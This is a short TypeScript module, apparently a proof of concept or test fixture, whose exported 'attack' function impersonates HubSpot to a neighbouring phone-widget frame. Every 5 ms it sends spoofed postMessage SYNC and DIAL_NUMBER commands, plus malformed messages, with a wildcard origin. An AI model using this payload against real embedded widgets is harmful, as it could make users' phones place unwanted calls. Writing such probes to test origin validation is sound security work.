/** A page beside the phone that wants to pass for HubSpot: it speaks first, and dials. */
export function attack(): void {
  const instance = Date.now() - 99;
  setInterval(() => {
    const beside = window.parent.frames[0];
    const say = (message: unknown): void => beside?.postMessage(message, '*');
    say({ type: 'SYNC', messageId: `${instance}_1`, hostUrl: location.origin, portalId: 1 });
    say({ type: 'DIAL_NUMBER', messageId: `${instance}_2`, data: { phoneNumber: '+14155550150' } });
    for (const nothing of [null, 'SYNC', []]) say(nothing);
  }, 5);
}
